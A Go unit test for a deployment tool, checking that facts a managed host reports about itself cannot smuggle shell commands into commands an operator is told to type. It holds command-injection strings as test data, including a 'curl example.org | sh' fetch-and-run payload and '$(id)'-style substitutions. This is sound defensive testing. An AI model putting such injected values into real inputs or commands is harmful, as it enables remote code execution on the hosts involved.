package deploy

import (
	"testing"

	"github.com/hbohlen/hdeploy/profiles/protocol"
)

// What a host says of itself ends in commands that a person is told to type.
func TestAHostCannotPutWordsIntoCommands(t *testing.T) {
	const evil = "/nix/store/0123; curl example.org | sh #"
	for name, change := range map[string]func(*protocol.Facts){
		"what runs":      func(f *protocol.Facts) { f.Running = evil },
		"the profile":    func(f *protocol.Facts) { f.Profile.Path = evil },
		"a generation":   func(f *protocol.Facts) { f.Profile.Link = "$(id)" },
		"what boots":     func(f *protocol.Facts) { f.Boots.System = evil },
		"the platform":   func(f *protocol.Facts) { f.System = "x86_64-linux`id`" },
		"an option":      func(f *protocol.Facts) { f.Running = "--help" },
		"a transaction":  func(f *protocol.Facts) { f.Transaction = &protocol.Status{ID: "x'; id"} },
		"its new system": func(f *protocol.Facts) { f.Transaction = &protocol.Status{ID: "x", New: evil} },
		"what it found, to undo": func(f *protocol.Facts) {
			f.Transaction = &protocol.Status{ID: "x"}
			f.Transaction.Before.Running = evil
		},
	} {
		t.Run(name, func(t *testing.T) {
			h := web1(t)
			if err := h.notOurs(h.facts); err != nil {
				t.Fatal(err)
			}
			change(&h.facts)
			refusal(t, h.checkHost(), "look", "neither a path nor the id")
		})
	}
	h := web1(t)
	if err := h.checkPlan(protocol.RollbackPlan{Target: evil}); err == nil {
		t.Error("a rollback leads to " + evil)
	}
}
